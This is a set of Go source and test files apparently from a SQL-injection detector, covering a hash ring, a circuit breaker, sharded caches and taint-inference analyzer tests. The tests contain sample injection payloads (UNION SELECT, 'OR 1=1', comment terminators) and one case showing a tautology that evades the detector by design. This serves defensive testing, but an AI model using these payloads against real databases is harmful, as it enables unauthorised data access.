	// of the circle.
	i := sort.Search(len(r.points), func(i int) bool { return r.points[i].hash >= h })
	if i == len(r.points) {
		i = 0
	}
	return r.points[i].shard
}

// fnv64a is the FNV-1a 64-bit hash, inlined to keep Owner allocation-free
// on the check hot path.
func fnv64a(s string) uint64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= prime64
	}
	return h
}
