package guardrail

import (
	"fmt"
	"testing"
)

func TestRingOwnerInRange(t *testing.T) {
	for _, shards := range []int{1, 2, 3, 8} {
		r := NewRing(shards, 0)
		if r.Shards() != shards {
			t.Fatalf("Shards() = %d, want %d", r.Shards(), shards)
		}
		for i := 0; i < 1000; i++ {
			key := fmt.Sprintf("key-%d", i)
			owner := r.Owner(key)
			if owner < 0 || owner >= shards {
				t.Fatalf("Owner(%q) = %d with %d shards", key, owner, shards)
			}
		}
	}
}

func TestRingDeterministic(t *testing.T) {
	a := NewRing(4, 0)
	b := NewRing(4, 0)
	for i := 0; i < 500; i++ {
		key := fmt.Sprintf("query-%d", i)
		if a.Owner(key) != b.Owner(key) {
			t.Fatalf("two identical rings disagree on %q: %d vs %d", key, a.Owner(key), b.Owner(key))
		}
	}
}

func TestRingBalance(t *testing.T) {
	const shards, keys = 4, 20000
	r := NewRing(shards, 0)
	counts := make([]int, shards)
	for i := 0; i < keys; i++ {
		counts[r.Owner(fmt.Sprintf("SELECT * FROM t WHERE id = %d", i))]++
	}
	fair := keys / shards
	for s, n := range counts {
		// With 128 virtual points per shard the worst shard should stay
		// well within 2x of fair share; in practice it is within ~15%.
		if n < fair/2 || n > fair*2 {
			t.Fatalf("shard %d owns %d of %d keys (fair share %d): ring badly skewed", s, n, keys, fair)
		}
	}
}

func TestRingConsistency(t *testing.T) {
	// Growing the fleet from 3 to 4 shards must only move keys into the
	// new shard — a key owned by the same shard index in both rings stayed
	// put, and no key may move between two surviving shards.
	small := NewRing(3, 0)
	big := NewRing(4, 0)
	moved := 0
	const keys = 10000
	for i := 0; i < keys; i++ {
		key := fmt.Sprintf("key-%d", i)
		before, after := small.Owner(key), big.Owner(key)
		if before != after {
			moved++
			if after != 3 {
				t.Fatalf("key %q moved from shard %d to surviving shard %d; consistent hashing must only move keys to the new shard", key, before, after)
			}
		}
	}
	// Expect roughly 1/4 of keys to move; far more means the ring is not
	// consistent, none means the new shard owns nothing.
	if moved == 0 || moved > keys/2 {
		t.Fatalf("%d of %d keys moved when adding a shard; want roughly %d", moved, keys, keys/4)
	}
}

func TestRingSingleShard(t *testing.T) {
	r := NewRing(0, 0)
	if r.Shards() != 1 {
		t.Fatalf("Shards() = %d, want 1", r.Shards())
	}
	if got := r.Owner("anything"); got != 0 {
		t.Fatalf("Owner = %d, want 0", got)
	}
}

func BenchmarkRingOwner(b *testing.B) {
	r := NewRing(4, 0)
	key := "SELECT id, name FROM users WHERE email = 'a@example.com'"
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = r.Owner(key)
	}
}
