package guardrail

import (
	"errors"
	"sync"
	"testing"
	"time"
)

// fakeClock drives a breaker's cooldown deterministically.
type fakeClock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *fakeClock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *fakeClock) advance(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

func newTestBreaker(threshold int, cooldown time.Duration) (*Breaker, *fakeClock) {
	b := NewBreaker(threshold, cooldown)
	clk := &fakeClock{t: time.Unix(1000, 0)}
	b.now = clk.now
	return b, clk
}

func TestNilBreakerIsDisabled(t *testing.T) {
	var b *Breaker
	if err := b.Allow(); err != nil {
		t.Fatalf("nil breaker Allow = %v, want nil", err)
	}
	b.Success()
	b.Failure()
	b.Cancel()
	if st := b.Stats(); st.State != "disabled" {
		t.Fatalf("nil breaker State = %q, want disabled", st.State)
	}
	if NewBreaker(0, time.Second) != nil {
		t.Fatal("NewBreaker(0) should return the nil (disabled) breaker")
	}
}

func TestBreakerTripsAfterConsecutiveFailures(t *testing.T) {
	b, _ := newTestBreaker(3, time.Second)
	for i := 0; i < 2; i++ {
		if err := b.Allow(); err != nil {
			t.Fatalf("Allow before trip: %v", err)
		}
		b.Failure()
	}
	if st := b.Stats(); st.State != "closed" {
		t.Fatalf("state after 2 failures = %q, want closed", st.State)
	}
	b.Failure()
	st := b.Stats()
	if st.State != "open" || st.Trips != 1 {
		t.Fatalf("after threshold failures: %+v, want open with 1 trip", st)
	}
	if err := b.Allow(); !errors.Is(err, ErrCircuitOpen) {
		t.Fatalf("Allow while open = %v, want ErrCircuitOpen", err)
	}
	if b.Stats().Rejects != 1 {
		t.Fatalf("Rejects = %d, want 1", b.Stats().Rejects)
	}
}

func TestBreakerSuccessResetsStreak(t *testing.T) {
	b, _ := newTestBreaker(2, time.Second)
	b.Failure()
	b.Success()
	b.Failure()
	if st := b.Stats(); st.State != "closed" {
		t.Fatalf("interleaved failures tripped the breaker: %+v", st)
	}
}

func TestBreakerHalfOpenProbe(t *testing.T) {
	b, clk := newTestBreaker(1, time.Second)
	b.Failure()
	if err := b.Allow(); !errors.Is(err, ErrCircuitOpen) {
		t.Fatalf("Allow while open = %v, want ErrCircuitOpen", err)
	}
	clk.advance(2 * time.Second)
	// First caller after the cooldown is the probe ...
	if err := b.Allow(); err != nil {
		t.Fatalf("probe Allow = %v, want nil", err)
	}
	// ... and concurrent callers stay rejected until it resolves.
	if err := b.Allow(); !errors.Is(err, ErrCircuitOpen) {
		t.Fatalf("Allow during probe = %v, want ErrCircuitOpen", err)
	}
	if st := b.Stats(); st.State != "half-open" || st.Probes != 1 {
		t.Fatalf("during probe: %+v, want half-open with 1 probe", st)
	}
	b.Success()
	if st := b.Stats(); st.State != "closed" {
		t.Fatalf("after successful probe: %+v, want closed", st)
	}
	if err := b.Allow(); err != nil {
		t.Fatalf("Allow after recovery = %v, want nil", err)
	}
}

func TestBreakerFailedProbeReopens(t *testing.T) {
	b, clk := newTestBreaker(1, time.Second)
	b.Failure()
	clk.advance(2 * time.Second)
	if err := b.Allow(); err != nil {
		t.Fatalf("probe Allow = %v, want nil", err)
	}
	b.Failure()
	st := b.Stats()
	if st.State != "open" || st.Trips != 2 {
		t.Fatalf("after failed probe: %+v, want open with 2 trips", st)
	}
	// The failed probe restarts the cooldown: still rejecting now ...
	if err := b.Allow(); !errors.Is(err, ErrCircuitOpen) {
		t.Fatalf("Allow right after failed probe = %v, want ErrCircuitOpen", err)
	}
	// ... but probing again after it elapses.
	clk.advance(2 * time.Second)
	if err := b.Allow(); err != nil {
		t.Fatalf("second probe Allow = %v, want nil", err)
	}
}

func TestBreakerCanceledProbeReturnsToOpen(t *testing.T) {
	b, clk := newTestBreaker(1, time.Second)
	b.Failure()
	clk.advance(2 * time.Second)
	if err := b.Allow(); err != nil {
		t.Fatalf("probe Allow = %v, want nil", err)
	}
	b.Cancel()
	st := b.Stats()
	if st.State != "open" || st.Trips != 1 {
		t.Fatalf("after canceled probe: %+v, want open with 1 trip (no new trip)", st)
	}
	// A canceled probe taught us nothing; the original trip time stands,
	// so the very next caller may probe again without another cooldown.
	if err := b.Allow(); err != nil {
		t.Fatalf("re-probe after cancel = %v, want nil", err)
	}
	if b.Stats().Probes != 2 {
		t.Fatalf("Probes = %d, want 2", b.Stats().Probes)
	}
}

func TestBreakerConcurrentOutcomes(t *testing.T) {
	b := NewBreaker(5, 10*time.Millisecond)
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				if err := b.Allow(); err != nil {
					continue
				}
				switch (i + j) % 3 {
				case 0:
					b.Success()
				case 1:
					b.Failure()
				default:
					b.Cancel()
				}
			}
		}(i)
	}
	wg.Wait()
	// No assertion on the final state — the point is the race detector
	// and that the state machine never wedges.
	_ = b.Stats()
}
