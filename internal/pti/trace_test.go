package pti

import (
	"testing"

	"joza/internal/fragments"
	"joza/internal/trace"
)

func tracedFragments() *fragments.Set {
	return fragments.NewSet([]string{
		"SELECT * FROM records WHERE ID=",
		" LIMIT 5",
	})
}

func TestAnalyzeTracedRecordsCoverEvidence(t *testing.T) {
	a := New(tracedFragments())
	tr := trace.New(trace.Config{SampleEvery: 1})
	span := tr.Start("q")
	res := a.AnalyzeTraced("SELECT * FROM records WHERE ID=5 LIMIT 5", nil, span)
	if res.Attack {
		t.Fatal("benign query flagged")
	}
	if len(span.Covers) == 0 {
		t.Fatal("no cover evidence recorded for a safe query")
	}
	for _, c := range span.Covers {
		if c.FragEnd <= c.FragStart || c.TokenEnd <= c.TokenStart {
			t.Fatalf("degenerate cover %+v", c)
		}
		if c.TokenStart < c.FragStart || c.FragEnd < c.TokenEnd {
			t.Fatalf("cover %+v does not contain its token", c)
		}
	}
	if len(span.UncoveredTokens) != 0 {
		t.Fatalf("safe query recorded uncovered tokens: %+v", span.UncoveredTokens)
	}
}

func TestAnalyzeTracedRecordsUncoveredEvidence(t *testing.T) {
	for _, opt := range [][]Option{nil, {WithoutParseFirst()}} {
		a := New(tracedFragments(), opt...)
		tr := trace.New(trace.Config{SampleEvery: 1})
		span := tr.Start("q")
		res := a.AnalyzeTraced("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5", nil, span)
		if !res.Attack {
			t.Fatal("injection not flagged")
		}
		if len(span.UncoveredTokens) == 0 {
			t.Fatal("attack verdict recorded no uncovered-token evidence")
		}
		found := false
		for _, u := range span.UncoveredTokens {
			if u.Token == "UNION" {
				found = true
			}
		}
		if !found {
			t.Fatalf("UNION missing from uncovered evidence: %+v", span.UncoveredTokens)
		}
	}
}

func TestCachedTracedRecordsOutcomes(t *testing.T) {
	c := NewCached(New(tracedFragments()), CacheQueryAndStructure, 64)
	tr := trace.New(trace.Config{SampleEvery: 1})
	query := "SELECT * FROM records WHERE ID=7 LIMIT 5"

	miss := tr.Start(query)
	c.AnalyzeLazyTraced(query, nil, miss)
	if miss.CacheOutcome != trace.CacheMiss {
		t.Fatalf("first analysis outcome %q, want miss", miss.CacheOutcome)
	}
	if miss.LexNs <= 0 || miss.PTICoverNs <= 0 {
		t.Fatalf("miss must time lex (%d) and cover (%d)", miss.LexNs, miss.PTICoverNs)
	}

	hit := tr.Start(query)
	c.AnalyzeLazyTraced(query, nil, hit)
	if hit.CacheOutcome != trace.CacheQueryHit {
		t.Fatalf("repeat outcome %q, want query-hit", hit.CacheOutcome)
	}
	if hit.LexNs != 0 || hit.PTICoverNs != 0 {
		t.Fatal("query-cache hit must skip lex and cover")
	}

	// Same structure, different literal: structure-hit.
	variant := "SELECT * FROM records WHERE ID=99 LIMIT 5"
	sh := tr.Start(variant)
	c.AnalyzeLazyTraced(variant, nil, sh)
	if sh.CacheOutcome != trace.CacheStructureHit {
		t.Fatalf("variant outcome %q, want structure-hit", sh.CacheOutcome)
	}
}

func TestCachedTracedNoCacheMode(t *testing.T) {
	c := NewCached(New(tracedFragments()), CacheNone, 1)
	tr := trace.New(trace.Config{SampleEvery: 1})
	span := tr.Start("q")
	c.AnalyzeLazyTraced("SELECT * FROM records WHERE ID=7 LIMIT 5", nil, span)
	if span.CacheOutcome != "" {
		t.Fatalf("cacheless analyzer recorded outcome %q", span.CacheOutcome)
	}
}
