package pti

import (
	"hash/maphash"
	"runtime"
	"sync/atomic"

	"joza/internal/sqltoken"
)

// lruKey is the composite cache key: the SQL dialect the verdict was
// computed under plus the query (or structure-skeleton) string. The
// dialect is part of the key, not a cache-level attribute, so one process
// hosting guards for several database backends can never serve a verdict
// cached under one dialect to a query arriving under another — the same
// bytes can lex to a different string/code boundary per dialect.
//
// A struct key keeps the lookup allocation-free: concatenating the dialect
// into the string would allocate on every hit-path probe, regressing the
// zero-alloc cached fast path.
type lruKey struct {
	d   sqltoken.Dialect
	key string
}

// shardedLRU spreads an LRU cache over N independently locked shards,
// selected by key hash, so concurrent Cached.Analyze calls on different
// queries stop serializing on one mutex. N is GOMAXPROCS rounded up to a
// power of two (at least minShards, so sharding is exercised even on small
// machines), fixed at construction.
type shardedLRU struct {
	shards []lruShard
	mask   uint64
}

// lruShard is one shard: its own lock (inside lru) plus lock-free hit and
// miss counters.
type lruShard struct {
	lru    lru
	hits   atomic.Uint64
	misses atomic.Uint64
	// pad the shard to its own cache line region to avoid false sharing
	// between neighbouring shards' counters.
	_ [24]byte
}

const (
	minShards = 4
	maxShards = 256
)

// defaultShardCount returns the power-of-two shard count for this process.
func defaultShardCount() int {
	n := runtime.GOMAXPROCS(0)
	if n < minShards {
		n = minShards
	}
	if n > maxShards {
		n = maxShards
	}
	// Round up to a power of two so shard selection is a mask.
	p := 1
	for p < n {
		p <<= 1
	}
	return p
}

// newShardedLRU builds a sharded cache with total capacity split evenly
// across nShards shards (nShards must be a power of two).
func newShardedLRU(capacity, nShards int) *shardedLRU {
	if capacity < 1 {
		capacity = 1024
	}
	perShard := (capacity + nShards - 1) / nShards
	if perShard < 1 {
		perShard = 1
	}
	s := &shardedLRU{
		shards: make([]lruShard, nShards),
		mask:   uint64(nShards - 1),
	}
	for i := range s.shards {
		s.shards[i].lru.cap = perShard
		s.shards[i].lru.items = make(map[lruKey]*lruEntry, perShard)
	}
	return s
}

// shardSeed is the process-wide seed for shard selection. maphash uses the
// hardware-accelerated runtime string hash, so picking a shard costs a few
// nanoseconds even for long query keys and never allocates.
var shardSeed = maphash.MakeSeed()

// hashKey mixes the dialect into the string hash with a golden-ratio
// multiply so the same query text lands on independent shards per dialect.
func hashKey(k lruKey) uint64 {
	return maphash.String(shardSeed, k.key) ^ (uint64(k.d)+1)*0x9e3779b97f4a7c15
}

func (s *shardedLRU) shard(k lruKey) *lruShard {
	return &s.shards[hashKey(k)&s.mask]
}

func (s *shardedLRU) get(d sqltoken.Dialect, key string) (bool, bool) {
	k := lruKey{d: d, key: key}
	sh := s.shard(k)
	safe, ok := sh.lru.get(k)
	if ok {
		sh.hits.Add(1)
	} else {
		sh.misses.Add(1)
	}
	return safe, ok
}

func (s *shardedLRU) put(d sqltoken.Dialect, key string, safe bool) {
	k := lruKey{d: d, key: key}
	s.shard(k).lru.put(k, safe)
}

func (s *shardedLRU) len() int {
	total := 0
	for i := range s.shards {
		total += s.shards[i].lru.len()
	}
	return total
}

// ShardStat is the activity of one cache shard.
type ShardStat struct {
	Hits    uint64
	Misses  uint64
	Entries uint64
}

// stats returns one ShardStat per shard.
func (s *shardedLRU) stats() []ShardStat {
	out := make([]ShardStat, len(s.shards))
	for i := range s.shards {
		out[i] = ShardStat{
			Hits:    s.shards[i].hits.Load(),
			Misses:  s.shards[i].misses.Load(),
			Entries: uint64(s.shards[i].lru.len()),
		}
	}
	return out
}
