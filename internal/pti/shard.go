package pti

import (
	"hash/maphash"
	"runtime"
	"sync/atomic"
)

// shardedLRU spreads an LRU cache over N independently locked shards,
// selected by key hash, so concurrent Cached.Analyze calls on different
// queries stop serializing on one mutex. N is GOMAXPROCS rounded up to a
// power of two (at least minShards, so sharding is exercised even on small
// machines), fixed at construction.
type shardedLRU struct {
	shards []lruShard
	mask   uint64
}

// lruShard is one shard: its own lock (inside lru) plus lock-free hit and
// miss counters.
type lruShard struct {
	lru    lru
	hits   atomic.Uint64
	misses atomic.Uint64
	// pad the shard to its own cache line region to avoid false sharing
	// between neighbouring shards' counters.
	_ [24]byte
}

const (
	minShards = 4
	maxShards = 256
)

// defaultShardCount returns the power-of-two shard count for this process.
func defaultShardCount() int {
	n := runtime.GOMAXPROCS(0)
	if n < minShards {
		n = minShards
	}
	if n > maxShards {
		n = maxShards
	}
	// Round up to a power of two so shard selection is a mask.
	p := 1
	for p < n {
		p <<= 1
	}
	return p
}

// newShardedLRU builds a sharded cache with total capacity split evenly
// across nShards shards (nShards must be a power of two).
func newShardedLRU(capacity, nShards int) *shardedLRU {
	if capacity < 1 {
		capacity = 1024
	}
	perShard := (capacity + nShards - 1) / nShards
	if perShard < 1 {
		perShard = 1
	}
	s := &shardedLRU{
		shards: make([]lruShard, nShards),
		mask:   uint64(nShards - 1),
	}
	for i := range s.shards {
		s.shards[i].lru.cap = perShard
		s.shards[i].lru.items = make(map[string]*lruEntry, perShard)
	}
	return s
}

// shardSeed is the process-wide seed for shard selection. maphash uses the
// hardware-accelerated runtime string hash, so picking a shard costs a few
// nanoseconds even for long query keys and never allocates.
var shardSeed = maphash.MakeSeed()

func hashKey(key string) uint64 {
	return maphash.String(shardSeed, key)
}

func (s *shardedLRU) shard(key string) *lruShard {
	return &s.shards[hashKey(key)&s.mask]
}

func (s *shardedLRU) get(key string) (bool, bool) {
	sh := s.shard(key)
	safe, ok := sh.lru.get(key)
	if ok {
		sh.hits.Add(1)
	} else {
		sh.misses.Add(1)
	}
	return safe, ok
}

func (s *shardedLRU) put(key string, safe bool) {
	s.shard(key).lru.put(key, safe)
}

func (s *shardedLRU) len() int {
	total := 0
	for i := range s.shards {
		total += s.shards[i].lru.len()
	}
	return total
}

// ShardStat is the activity of one cache shard.
type ShardStat struct {
	Hits    uint64
	Misses  uint64
	Entries uint64
}

// stats returns one ShardStat per shard.
func (s *shardedLRU) stats() []ShardStat {
	out := make([]ShardStat, len(s.shards))
	for i := range s.shards {
		out[i] = ShardStat{
			Hits:    s.shards[i].hits.Load(),
			Misses:  s.shards[i].misses.Load(),
			Entries: uint64(s.shards[i].lru.len()),
		}
	}
	return out
}
