package pti

import (
	"context"
	"errors"
	"strings"
	"testing"

	"joza/internal/core"
	"joza/internal/fragments"
)

func TestPTIMaxQueryBytesOverBudget(t *testing.T) {
	set := fragments.NewSet([]string{"SELECT * FROM t WHERE a = "})
	a := New(set, WithMaxQueryBytes(1024))
	query := "SELECT * FROM t WHERE a = '" + strings.Repeat("x", 4096) + "'"
	_, err := a.AnalyzeCtx(context.Background(), query, nil, nil)
	if !errors.Is(err, core.ErrOverBudget) {
		t.Fatalf("err = %v, want core.ErrOverBudget", err)
	}
	if _, err := a.AnalyzeCtx(context.Background(), "SELECT * FROM t WHERE a = 1", nil, nil); err != nil {
		t.Fatalf("under cap: %v", err)
	}
}

func TestPTIMaxTokensOverBudget(t *testing.T) {
	set := fragments.NewSet([]string{"SELECT 1"})
	a := New(set, WithMaxTokens(16))
	query := "SELECT " + strings.Repeat("1,", 100) + "1"
	_, err := a.AnalyzeCtx(context.Background(), query, nil, nil)
	if !errors.Is(err, core.ErrOverBudget) {
		t.Fatalf("err = %v, want core.ErrOverBudget", err)
	}
}

func TestPTIBudgetsPropagateThroughCache(t *testing.T) {
	set := fragments.NewSet([]string{"SELECT * FROM t WHERE a = "})
	a := New(set, WithMaxQueryBytes(1024))
	c := NewCached(a, CacheQueryAndStructure, 64)
	query := "SELECT * FROM t WHERE a = '" + strings.Repeat("x", 4096) + "'"
	// A hostile oversized query always misses the cache, so the budget
	// fires on every attempt — including repeats.
	for i := 0; i < 2; i++ {
		_, _, err := c.AnalyzeLazyCtx(context.Background(), query, nil, nil)
		if !errors.Is(err, core.ErrOverBudget) {
			t.Fatalf("attempt %d: err = %v, want core.ErrOverBudget", i, err)
		}
	}
}
