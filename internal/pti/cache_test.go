package pti

import (
	"fmt"
	"sync"
	"testing"
)

// mk builds a MySQL-dialect lruKey for the plain-LRU unit tests.
func mk(s string) lruKey { return lruKey{key: s} }

func TestLRUBasics(t *testing.T) {
	c := newLRU(2)
	c.put(mk("a"), true)
	c.put(mk("b"), true)
	if v, ok := c.get(mk("a")); !ok || !v {
		t.Error("a missing")
	}
	c.put(mk("c"), true) // evicts b (a was touched)
	if _, ok := c.get(mk("b")); ok {
		t.Error("b should be evicted")
	}
	if _, ok := c.get(mk("a")); !ok {
		t.Error("a should remain")
	}
	if _, ok := c.get(mk("c")); !ok {
		t.Error("c should remain")
	}
	if c.len() != 2 {
		t.Errorf("len = %d", c.len())
	}
	// Overwrite updates value.
	c.put(mk("a"), false)
	if v, ok := c.get(mk("a")); !ok || v {
		t.Error("overwrite failed")
	}
}

func TestLRUDefaultCapacity(t *testing.T) {
	c := newLRU(0)
	for i := 0; i < 2000; i++ {
		c.put(mk(fmt.Sprintf("k%d", i)), true)
	}
	if c.len() != 1024 {
		t.Errorf("len = %d, want 1024", c.len())
	}
}

func TestLRUConcurrent(t *testing.T) {
	c := newLRU(64)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				key := fmt.Sprintf("k%d", (seed+i)%100)
				c.put(mk(key), true)
				c.get(mk(key))
			}
		}(g)
	}
	wg.Wait()
	if c.len() > 64 {
		t.Errorf("len = %d exceeds capacity", c.len())
	}
}

func TestCachedQueryCache(t *testing.T) {
	a := New(appFragments())
	c := NewCached(a, CacheQuery, 16)
	q := "SELECT * FROM records WHERE ID=5 LIMIT 5"
	if c.Analyze(q, nil).Attack {
		t.Fatal("benign flagged")
	}
	if c.Analyze(q, nil).Attack {
		t.Fatal("cached benign flagged")
	}
	st := c.Stats()
	if st.QueryHits != 1 || st.Misses != 1 {
		t.Errorf("stats = %+v", st)
	}
	if c.Mode() != CacheQuery {
		t.Error("Mode")
	}
}

func TestCachedStructureCache(t *testing.T) {
	a := New(appFragments())
	c := NewCached(a, CacheQueryAndStructure, 16)
	// Same structure, different data values: second hits structure cache.
	if c.Analyze("SELECT * FROM records WHERE ID=5 LIMIT 5", nil).Attack {
		t.Fatal("benign flagged")
	}
	if c.Analyze("SELECT * FROM records WHERE ID=77 LIMIT 5", nil).Attack {
		t.Fatal("structure-cached benign flagged")
	}
	st := c.Stats()
	if st.StructureHits != 1 {
		t.Errorf("stats = %+v", st)
	}
	// Promotion: the second query string is now in the exact cache.
	c.Analyze("SELECT * FROM records WHERE ID=77 LIMIT 5", nil)
	if got := c.Stats().QueryHits; got != 1 {
		t.Errorf("query hits after promotion = %d", got)
	}
}

func TestCachedAttackNeverCached(t *testing.T) {
	a := New(appFragments())
	c := NewCached(a, CacheQueryAndStructure, 16)
	atk := "SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5"
	for i := 0; i < 3; i++ {
		if !c.Analyze(atk, nil).Attack {
			t.Fatalf("iteration %d: attack missed", i)
		}
	}
	st := c.Stats()
	if st.Misses != 3 || st.QueryHits != 0 || st.StructureHits != 0 {
		t.Errorf("attack results must not be cached: %+v", st)
	}
}

func TestCachedStructureAttackVariantDetected(t *testing.T) {
	// A benign query populates the structure cache; an attack variant has
	// different structure (extra tokens) and must still be analyzed.
	a := New(appFragments())
	c := NewCached(a, CacheQueryAndStructure, 16)
	c.Analyze("SELECT * FROM records WHERE ID=5 LIMIT 5", nil)
	res := c.Analyze("SELECT * FROM records WHERE ID=5 OR 1=1 LIMIT 5", nil)
	if !res.Attack {
		t.Error("attack with different structure must not hit the cache")
	}
}

func TestCachedNoneMode(t *testing.T) {
	a := New(appFragments())
	c := NewCached(a, CacheNone, 16)
	q := "SELECT * FROM records WHERE ID=5 LIMIT 5"
	c.Analyze(q, nil)
	c.Analyze(q, nil)
	st := c.Stats()
	if st.Misses != 2 || st.QueryHits != 0 {
		t.Errorf("no-cache stats = %+v", st)
	}
}

func TestCacheModeString(t *testing.T) {
	cases := map[CacheMode]string{
		CacheNone:              "no-cache",
		CacheQuery:             "query-cache",
		CacheQueryAndStructure: "query+structure-cache",
		CacheMode(0):           "unknown",
	}
	for mode, want := range cases {
		if got := mode.String(); got != want {
			t.Errorf("%d.String() = %q, want %q", mode, got, want)
		}
	}
}

func TestCachedConcurrent(t *testing.T) {
	a := New(appFragments())
	c := NewCached(a, CacheQueryAndStructure, 64)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				q := fmt.Sprintf("SELECT * FROM records WHERE ID=%d LIMIT 5", (seed*7+i)%50)
				if c.Analyze(q, nil).Attack {
					t.Errorf("benign flagged: %q", q)
					return
				}
			}
		}(g)
	}
	wg.Wait()
}
