package pti

import (
	"strings"
	"testing"

	"joza/internal/fragments"
)

// appFragments models the paper's running example: the literal set of the
// vulnerable PHP program in Section III-B.
func appFragments() *fragments.Set {
	return fragments.NewSet([]string{
		"id",
		"SELECT * FROM records WHERE ID=",
		" LIMIT 5",
	})
}

func TestBenignQuerySafe(t *testing.T) {
	// Figure 3A: every critical token comes from a program fragment.
	a := New(appFragments())
	q := "SELECT * FROM records WHERE ID=5 LIMIT 5"
	res := a.Analyze(q, nil)
	if res.Attack {
		t.Errorf("benign query flagged: %v", res.Reasons)
	}
}

func TestUnionAttackDetected(t *testing.T) {
	// Figure 3B: UNION, SELECT and username() are not in any fragment.
	a := New(appFragments())
	q := "SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5"
	res := a.Analyze(q, nil)
	if !res.Attack {
		t.Fatal("union attack not detected")
	}
	var bad []string
	for _, r := range res.Reasons {
		bad = append(bad, r.Token.Text)
	}
	joined := strings.Join(bad, " ")
	for _, want := range []string{"UNION", "SELECT", "username"} {
		if !strings.Contains(joined, want) {
			t.Errorf("uncovered tokens %v missing %q", bad, want)
		}
	}
}

func TestVocabularyAttackMissed(t *testing.T) {
	// Figure 3C / Table III: if the application contains OR and = as
	// fragments, the tautology payload is (wrongly but by design) safe.
	set := fragments.NewSet([]string{
		"SELECT * FROM records WHERE ID=",
		" LIMIT 5",
		"OR",
		"=",
		"1",
	})
	a := New(set)
	q := "SELECT * FROM records WHERE ID=1 OR 1 = 1 LIMIT 5"
	res := a.Analyze(q, nil)
	if res.Attack {
		t.Errorf("application-vocabulary attack should evade PTI: %v", res.Reasons)
	}
}

func TestFragmentCombinationForbidden(t *testing.T) {
	// Fragments "O" and "R" must not combine into the critical token OR.
	set := fragments.NewSetKeepAll([]string{"O", "R", "SELECT * FROM t WHERE a="})
	a := New(set)
	q := "SELECT * FROM t WHERE a=1 OR 1"
	res := a.Analyze(q, nil)
	if !res.Attack {
		t.Error("OR assembled from single-letter fragments must be flagged")
	}
}

func TestCommentIsOneCriticalToken(t *testing.T) {
	// The whole comment must come from one fragment.
	set := fragments.NewSet([]string{"SELECT * FROM t WHERE id=", "/*", "*/"})
	a := New(set)
	q := "SELECT * FROM t WHERE id=1 /* evasion '' block */"
	res := a.Analyze(q, nil)
	if !res.Attack {
		t.Error("comment not covered by a single fragment must be flagged")
	}
	// If the program itself contains the full comment, it is trusted.
	set2 := fragments.NewSet([]string{"SELECT * FROM t WHERE id=", "/* evasion '' block */"})
	a2 := New(set2)
	if res := a2.Analyze(q, nil); res.Attack {
		t.Errorf("program-originated comment flagged: %v", res.Reasons)
	}
}

func TestSecondOrderAttackDetected(t *testing.T) {
	// Input independence: the payload arrived via the database, but PTI
	// still flags it because OR/-- are not program fragments.
	a := New(appFragments())
	q := "SELECT * FROM records WHERE ID=1 OR 1=1 -- "
	res := a.Analyze(q, nil)
	if !res.Attack {
		t.Error("second-order payload must be flagged by PTI")
	}
}

func TestStrategiesAgree(t *testing.T) {
	set := appFragments()
	queries := []string{
		"SELECT * FROM records WHERE ID=5 LIMIT 5",
		"SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5",
		"SELECT * FROM records WHERE ID=1 OR 1=1",
		"DELETE FROM records",
		"",
	}
	variants := []*Analyzer{
		New(set),
		New(set, WithoutMRU()),
		New(set, WithoutParseFirst()),
		New(set, WithNaiveMatcher()),
		New(set, WithNaiveMatcher(), WithoutParseFirst(), WithoutMRU()),
		New(set, WithMRUCapacity(2)),
	}
	for _, q := range queries {
		want := variants[0].Analyze(q, nil).Attack
		for i, v := range variants[1:] {
			if got := v.Analyze(q, nil).Attack; got != want {
				t.Errorf("query %q: variant %d (%v) = %v, baseline = %v", q, i+1, v, got, want)
			}
		}
	}
}

func TestMRUWarmPathCovers(t *testing.T) {
	a := New(appFragments())
	q := "SELECT * FROM records WHERE ID=7 LIMIT 5"
	// First analysis populates the MRU; second should use it and still be
	// correct.
	if a.Analyze(q, nil).Attack {
		t.Fatal("cold analysis flagged benign query")
	}
	if a.Analyze(q, nil).Attack {
		t.Fatal("warm analysis flagged benign query")
	}
	// After warm-up, an attack must still be caught.
	res := a.Analyze("SELECT * FROM records WHERE ID=1 OR 1=1", nil)
	if !res.Attack {
		t.Error("attack missed after MRU warm-up")
	}
}

func TestPositiveMarkingsReported(t *testing.T) {
	a := New(appFragments(), WithoutParseFirst())
	q := "SELECT * FROM records WHERE ID=5 LIMIT 5"
	res := a.Analyze(q, nil)
	if len(res.Markings) == 0 {
		t.Fatal("full-marking mode must report positive markings")
	}
	found := false
	for _, m := range res.Markings {
		if m.Source == "SELECT * FROM records WHERE ID=" && m.Span.Start == 0 {
			found = true
		}
	}
	if !found {
		t.Errorf("markings = %+v", res.Markings)
	}
}

func TestAnalyzerString(t *testing.T) {
	s := New(appFragments()).String()
	// "id" is filtered out (no SQL token), leaving two fragments.
	if !strings.Contains(s, "fragments=2") {
		t.Errorf("String = %q", s)
	}
}

func TestEmptyFragmentSetFlagsEverything(t *testing.T) {
	a := New(fragments.NewSet(nil))
	res := a.Analyze("SELECT 1", nil)
	if !res.Attack {
		t.Error("no fragments: every critical token is untrusted")
	}
}

func TestSetAccessor(t *testing.T) {
	set := appFragments()
	if New(set).Set() != set {
		t.Error("Set() accessor")
	}
}
