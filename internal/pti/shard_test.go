package pti

import (
	"fmt"
	"sync"
	"testing"

	"joza/internal/sqltoken"
)

func TestDefaultShardCountPowerOfTwo(t *testing.T) {
	n := defaultShardCount()
	if n < minShards || n > maxShards {
		t.Fatalf("shard count %d outside [%d, %d]", n, minShards, maxShards)
	}
	if n&(n-1) != 0 {
